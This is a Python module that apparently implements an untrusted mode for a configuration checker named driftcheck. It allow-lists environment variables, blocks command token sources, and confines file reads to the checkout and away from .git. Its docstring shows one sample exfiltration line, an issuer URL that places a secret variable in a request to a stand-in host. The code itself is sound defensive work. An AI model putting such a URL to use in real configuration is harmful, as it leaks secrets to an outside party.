"""Untrusted mode: what an environment file from an untrusted source (a pull request from a
fork) may make driftcheck do.

An environment file is code: a `command` token source runs programs, `${VAR}` reads any
variable and can send it to a host the file names (`issuer = "https://x.example/${SECRET}"`),
`*_env` keys read variables, and paths read files. With `--untrusted`:

- `${VAR}` expands only variables on the allow-list (`--allow-env NAME`, DRIFTCHECK_ALLOW_ENV);
  any other reference is reported (DC002) and left as written;
- `client_secret_env`, token `env` and `secret_env` read only allow-listed variables; a token
  source that would read another is not used (DC301 says why), likewise an HS* secret;
- `command` token sources do not run (DC301 says why);
- no live probes are sent (the file names the URLs a token would go to);
- every file the environment reads (`extends`, token `path`, `secret_file`, `ca_bundle`,
  deployed artifacts) must lie inside the working directory or the folders being checked, and
  never inside a `.git` folder (DC001 otherwise).
"""

from __future__ import annotations

import os
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

from driftcheck.load.problems import ConfigProblem
from driftcheck.models import (
    ClientCredentialsSource,
    CommandSource,
    Environment,
    EnvSource,
    FileSource,
    TokenSource,
)


@dataclass(frozen=True)
class Trust:
    untrusted: bool = False
    allowed_variables: frozenset[str] = frozenset()

    def variables(self, env: Mapping[str, str]) -> Mapping[str, str]:
        """The variables `${VAR}` may expand to."""
        if not self.untrusted:
            return env
        return {name: env[name] for name in self.allowed_variables if name in env}

    def may_read(self, variable: str | None) -> bool:
        return not self.untrusted or variable is None or variable in self.allowed_variables


TRUSTED = Trust()


def roots_of(paths: Iterable[str | Path]) -> tuple[Path, ...]:
    """The folders an untrusted run may read files from: the working directory (the
    checkout), each checked folder, and the folder of each checked file."""
    found = [Path(os.path.realpath(Path.cwd()))]
    for path in paths:
        real = Path(os.path.realpath(path))
        found.append(real if real.is_dir() else real.parent)
    return tuple(found)


def _inside(file: str, roots: tuple[Path, ...]) -> bool:
    real = Path(os.path.realpath(file))
    if ".git" in real.parts:  # a checkout's credentials live there (http.extraheader)
        return False
    return any(real == root or root in real.parents for root in roots)


def _refused_variable(key: str, variable: str) -> str:
    return (f"not used: {key} names {variable}, which is not on the allow-list of variables "
            "an untrusted file may read (--allow-env)")


@dataclass(frozen=True)
class _Fence:
    """The folders an untrusted environment's files may lie in; a problem for each that
    lies outside them."""

    environment: Environment
    roots: tuple[Path, ...]
    problems: list[ConfigProblem]

    def check(self, key: str, file: str | None, what: str) -> None:
        if file is not None and not _inside(file, self.roots):
            self.problems.append(ConfigProblem(
                "DC001", self.environment.file_of(key),
                f"{what} {file} lies outside the folders an untrusted file may read "
                "(--untrusted: the working directory and the checked folders, never .git)",
                key_path=key, environment=self.environment.name,
                environment_file=self.environment.file))


def restrict(environment: Environment, trust: Trust, roots: tuple[Path, ...]
             ) -> tuple[Environment, list[ConfigProblem]]:
    """`environment` as an untrusted run may use it, and the files it may not read."""
    if not trust.untrusted:
        return environment, []
    fence = _Fence(environment, roots, [])
    for file in sorted(set(environment.origins.values()) | {environment.file}):
        fence.check("extends", file, "extends")
    fence.check("ca_bundle", environment.ca_bundle, "ca_bundle")
    tokens = {}
    for name, source in environment.tokens.items():
        refused = _token_refusal(name, source, trust, fence)
        tokens[name] = replace(source, refused=refused) if refused else source
    apis = {}
    for name, api in environment.apis.items():
        fence.check(f"apis.{name}.secret_file", api.secret_file, "secret_file")
        refused = None
        if api.secret_env and not trust.may_read(api.secret_env):
            refused = _refused_variable("secret_env", api.secret_env)
        apis[name] = replace(api, secret_refused=refused) if refused else api
    _check_deployed(environment, fence)
    return replace(environment, tokens=tokens, apis=apis), fence.problems


def _token_refusal(name: str, source: TokenSource, trust: Trust, fence: _Fence) -> str | None:
    """Why an untrusted run may not use this token source (None: it may)."""
    match source:
        case CommandSource():
            return ("not run: an untrusted file (--untrusted) runs no commands; use a "
                    "token from an allow-listed variable (source = \"env\") instead")
        case ClientCredentialsSource() if not trust.may_read(source.client_secret_env):
            return _refused_variable("client_secret_env", source.client_secret_env)
        case EnvSource() if not trust.may_read(source.env):
            return _refused_variable("env", source.env)
        case FileSource():
            fence.check(f"tokens.{name}.path", source.path, "the token file")
    return None


def _check_deployed(environment: Environment, fence: _Fence) -> None:
    for table, components in (("apis", environment.apis), ("gateways", environment.gateways),
                              ("frontends", environment.frontends)):
        for name, component in components.items():
            deployed = component.deployed
            for root in deployed.roots if deployed is not None else ():
                fence.check(f"{table}.{name}.deployed.paths", root, "deployed artifacts under")
